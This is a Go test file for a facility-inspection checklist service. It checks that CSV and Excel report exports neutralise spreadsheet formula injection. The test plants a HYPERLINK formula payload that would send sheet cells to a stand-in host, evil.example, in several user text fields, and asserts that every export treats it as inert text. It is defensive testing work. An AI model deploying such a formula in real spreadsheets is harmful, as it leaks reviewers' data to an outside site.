package handlers_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"tenken/checklist"
	"tenken/checklist/checklistfile"
	"tenken/checklist/demodata"
)

// formulaPayload is what an inspector wrote as a comment: opened in Excel
// it would send cells of the reviewers' sheet to another site.
const formulaPayload = `=HYPERLINK("http://evil.example/leak?d="&B2&C2,"詳細")`

// TestExportsAreSafeInExcel: user text in every exported text column —
// facility name, section title, item text, inspection comment, action
// title, owner, progress report, good-practice note — reaches the CSV
// tables neutralised (no cell starts with = + - @ tab or CR) and the
// workbook as plain string cells, never formulas.
func TestExportsAreSafeInExcel(t *testing.T) {
	t.Parallel()
	api := newTestAPI(t)
	ctx := context.Background()
	content := checklistfile.Default()
	item := simpleItem(t, content)
	for i := range content.Sections {
		for j := range content.Sections[i].Items {
			if content.Sections[i].Items[j].Key == item {
				content.Sections[i].Title.Ja = formulaPayload
				content.Sections[i].Items[j].Text.Ja = formulaPayload
			}
		}
	}
	v, err := checklist.Publish(defaultChecklistID, content, 1, time.Now(), "admin")
	if err != nil {
		t.Fatal(err)
	}
	if err := api.db.PutChecklistVersion(ctx, v); err != nil {
		t.Fatal(err)
	}
	f, err := api.db.CreateFacility(ctx, checklist.Facility{Code: "CSV-1", Name: checklist.FacilityName{JA: formulaPayload, EN: "-1+2"},
		Kind: checklist.KindPublicHall, Active: true}, checklist.SystemActor)
	if err != nil {
		t.Fatal(err)
	}

	// A failing inspection with the payload as its comment.
	g := demodata.New(demodata.Options{ChecklistID: defaultChecklistID, Version: 1, Content: &content,
		Facilities: []string{f.ID}, FirstYear: 2026, Years: 1, Seed: 7})
	in, err := g.Inspection(f.ID, checklist.Date{Year: 2026, Month: 5, Day: 1}, checklist.StatusDraft)
	if err != nil {
		t.Fatal(err)
	}
	inspector := checklist.Actor{UserID: "inspector", Role: checklist.RoleInspector}
	if _, err := in.ApplySave(&content, checklist.Save{BaseRevision: in.Revision, Answers: map[string]*checklist.Answer{
		item: {Value: checklist.StringValue("no"), Comment: formulaPayload}}}, inspector, time.Now()); err != nil {
		t.Fatal(err)
	}
	if _, _, err := api.db.CreateInspection(ctx, in, inspector, checklist.Idempotency{}); err != nil {
		t.Fatal(err)
	}
	if _, err := api.db.UpdateInspection(ctx, in.ID, inspector, checklist.Idempotency{},
		func(in *checklist.Inspection, c *checklist.Content, now time.Time) (checklist.InspectionChange, error) {
			return in.Submit(c, inspector, now)
		}); err != nil {
		t.Fatal(err)
	}

	// Its action, with the payload as title, owner, report and note.
	reviewer := bearer(api.tokenFor(checklist.RoleReviewer))
	var a actionView
	api.request("POST", "/v1/actions", map[string]any{"title": formulaPayload, "facility_id": f.ID, "item_key": item,
		"owner": "@SUM(A1:A9)", "target_fiscal_year": 2026, "source_inspection_id": in.ID}, reviewer).
		wantStatus(t, http.StatusCreated).decode(t, &a)
	api.request("POST", "/v1/actions/"+a.ID+"/progress", map[string]any{"revision": a.Revision, "kind": "interim",
		"date": "2026-09-30", "text": formulaPayload}, reviewer).wantStatus(t, http.StatusOK).decode(t, &a)
	api.request("POST", "/v1/actions/"+a.ID+"/good-practice", map[string]any{"revision": a.Revision, "good_practice": true,
		"note": formulaPayload}, reviewer).wantStatus(t, http.StatusOK)

	neutralised := 0
	for _, table := range []string{"summary", "facilities", "items", "sections", "persistent", "plan"} {
		r := api.request("GET", "/v1/reports/plan?fiscal_year=2026&format=csv&table="+table+"&facility_id="+f.ID, nil, reviewer).
			wantStatus(t, http.StatusOK)
		rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(r.Body, []byte("\uFEFF")))).ReadAll()
		if err != nil {
			t.Fatalf("%s: %v", table, err)
		}
		for _, row := range rows {
			for _, cell := range row {
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					t.Errorf("%s: cell %q would be a formula in Excel", table, cell)
				}
				if cell == "'"+formulaPayload || cell == "'@SUM(A1:A9)" || cell == "'-1+2" {
					neutralised++
				}
			}
		}
	}
	// Facility name (scope, facilities, plan), section and item (items,
	// plan), comment, title and owner (plan) at least.
	if neutralised < 8 {
		t.Fatalf("only %d cells carry the neutralised payload", neutralised)
	}

	r := api.request("GET", "/v1/reports/plan?fiscal_year=2026&format=xlsx", nil, reviewer).wantStatus(t, http.StatusOK)
	wb, err := excelize.OpenReader(bytes.NewReader(r.Body))
	if err != nil {
		t.Fatal(err)
	}
	defer wb.Close()
	strings_ := 0
	for _, sheet := range wb.GetSheetList() {
		rows, err := wb.GetRows(sheet)
		if err != nil {
			t.Fatal(err)
		}
		for i, row := range rows {
			for j, cell := range row {
				name, _ := excelize.CoordinatesToCellName(j+1, i+1)
				if formula, _ := wb.GetCellFormula(sheet, name); formula != "" {
					t.Errorf("%s!%s is a formula: %q", sheet, name, formula)
				}
				if cell == formulaPayload {
					if typ, _ := wb.GetCellType(sheet, name); typ != excelize.CellTypeSharedString && typ != excelize.CellTypeInlineString {
						t.Errorf("%s!%s holding the payload has type %v, want a string", sheet, name, typ)
					}
					strings_++
				}
			}
		}
	}
	if strings_ < 4 {
		t.Fatalf("the workbook holds the payload as text in only %d cells", strings_)
	}
}
